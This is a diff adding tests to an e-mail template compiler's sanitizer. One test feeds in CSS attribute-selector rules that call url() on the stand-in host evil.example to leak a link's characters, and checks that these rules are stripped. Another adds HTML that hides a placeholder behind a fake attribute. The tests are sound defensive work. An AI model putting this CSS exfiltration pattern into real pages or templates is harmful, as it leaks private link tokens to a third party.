@@ -144,12 +144,24 @@ describe('e-mail templates', () => {
       expect(made.compiled.match(/<\/style/g)).to.have.length(1);
     });
 
+    it('DEL-080 leaves out rules that would tell somebody else the letters of a link', async () => {
+      const css = `a[href^="https://k.fi/a/b"] { background: url(https://evil.example/b) }
+        @media screen { p:has(A[HREF*="c"]), .b { background: url(https://evil.example/c) } } .b { color: red }`;
+      const made = await ofSource('<a class="b" href="{{link}}">x</a>{{message}}', css);
+      expect(told(made)).to.include.members(['removed [href^="https://k.fi/a/b"]', 'removed [HREF*="c"]']);
+      expect(made.compiled)
+        .to.match(/color: ?red/)
+        .and.not.include('evil');
+    });
+
     it('DEL-081 refuses HTML without the message or a link, and places where nothing can be filled in', async () => {
       expect(await refused(() => ofSource('<p>Hello</p>'))).to.deep.equal(['template_message', 'template_link']);
       for (const html of [
         '<p title="{{message}}">{{message}} {{link}}</p>',
         '<a href="https://elsewhere.example/?to={{link}}">{{message}} {{link}}</a>',
         '<p id="{{survey}}">{{message}} {{link}}</p>',
+        // Behind what only looks like an attribute.
+        '<p>see a="</p><p id="{{survey}}">{{message}} {{link}}</p>',
         '<img alt="{{link}}" src="https://k.fi/x.png">{{message}} {{link}}',
       ])
         expect(await refused(() => ofSource(html)), html).to.deep.equal(['template_place']);
